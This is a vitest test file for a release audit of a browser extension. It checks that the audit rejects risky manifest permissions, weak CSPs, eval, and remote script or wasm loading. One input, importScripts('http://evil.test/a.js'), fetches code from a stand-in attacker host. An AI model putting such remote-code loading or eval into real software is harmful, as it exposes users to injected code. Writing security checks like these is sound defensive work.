import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { auditDist } from '../../scripts/audit-dist';

const source = JSON.parse(readFileSync('manifest.json', 'utf8')) as Record<string, unknown>;
/** The manifest as the build writes it: the worker entry becomes the loader. */
const released: Record<string, unknown> = {
  ...source,
  background: { service_worker: 'service-worker-loader.js', type: 'module' },
};

const dirs: string[] = [];
function fakeDist(manifest: Record<string, unknown>, files: Record<string, string> = {}): string {
  const dir = mkdtempSync(join(tmpdir(), 'otter-audit-'));
  dirs.push(dir);
  writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest));
  const all = {
    'service-worker-loader.js': "import './assets/worker.js';",
    'assets/worker.js': 'export {};',
    ...files,
  };
  for (const [name, content] of Object.entries(all)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), content);
  }
  return dir;
}
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

describe('release audit', () => {
  it('passes the release manifest', () => {
    expect(auditDist(fakeDist(released))).toEqual([]);
  });

  it.each<[string, Record<string, unknown>, RegExp]>([
    [
      '<all_urls> host permission (the e2e variant)',
      { ...released, host_permissions: ['<all_urls>'] },
      /host_permissions/,
    ],
    [
      'a narrower host permission',
      { ...released, host_permissions: ['https://example.com/*'] },
      /host_permissions/,
    ],
    [
      '<all_urls> elsewhere',
      { ...released, optional_host_permissions: ['<all_urls>'] },
      /<all_urls>/,
    ],
    [
      'content scripts',
      { ...released, content_scripts: [{ matches: ['https://*/*'], js: ['a.js'] }] },
      /content_scripts/,
    ],
    [
      'web_accessible_resources',
      { ...released, web_accessible_resources: [{ resources: ['*'], matches: ['<all_urls>'] }] },
      /web_accessible_resources/,
    ],
    [
      'a permission that warns',
      { ...released, permissions: [...(released.permissions as string[]), 'tabs'] },
      /permission outside.*tabs/,
    ],
    ['clipboardRead', { ...released, permissions: ['storage', 'clipboardRead'] }, /clipboardRead/],
    [
      'a looser CSP',
      {
        ...released,
        content_security_policy: {
          extension_pages: "script-src 'self' 'unsafe-eval'; object-src 'self'",
        },
      },
      /CSP/,
    ],
    ['no CSP', { ...released, content_security_policy: undefined }, /CSP/],
    [
      'externally connectable',
      { ...released, externally_connectable: { ids: ['*'] } },
      /externally_connectable/,
    ],
    [
      'dev-server leftover',
      { ...released, background: { service_worker: 'http://localhost:5173/sw.js' } },
      /dev-server leftover/,
    ],
  ])('fails on %s', (_name, manifest, problem) => {
    const problems = auditDist(fakeDist(manifest));
    expect(problems.join('\n')).toMatch(problem);
  });

  it.each<[string, string, RegExp]>([
    ['eval', 'const x = eval("1+1");', /eval/],
    ['window.eval', 'window.eval(code)', /eval/],
    ['new Function', 'const f = new Function("return 1");', /new Function/],
    ['remote import()', 'await import("https://cdn.example.com/x.js")', /http\(s\)/],
    ['remote static import', 'import x from "https://cdn.example.com/x.js";', /http\(s\)/],
    ['remote importScripts', 'importScripts("http://evil.test/a.js")', /http\(s\)/],
    [
      'a CDN wasm URL',
      'const u = "https://fastly.jsdelivr.net/npm/zxing-wasm@3/dist/reader/zxing_reader.wasm";',
      /WebAssembly/,
    ],
    ['dev-server client', 'import "/@vite/client";', /dev-server/],
  ])('fails on a built file with %s', (_name, code, problem) => {
    const problems = auditDist(fakeDist(released, { 'assets/chunk.js': code }));
    expect(problems.join('\n')).toMatch(problem);
  });

  it('fails on a remote script tag in a page', () => {
    const html = '<script src="https://cdn.example.com/a.js"></script>';
    expect(auditDist(fakeDist(released, { 'popup/index.html': html })).join('\n')).toMatch(
      /loads a script/,
    );
  });

  it('does not flag ordinary words', () => {
    const code =
      'const evaluate = (x) => x; retrieval(1); const wasmUnsafeEval = "wasm-unsafe-eval";';
    expect(auditDist(fakeDist(released, { 'assets/chunk.js': code }))).toEqual([]);
  });

  it('fails when there is no manifest', () => {
    const dir = fakeDist(released);
    rmSync(join(dir, 'manifest.json'));
    expect(auditDist(dir)).toEqual([`${dir}/manifest.json is missing or not JSON`]);
  });
});
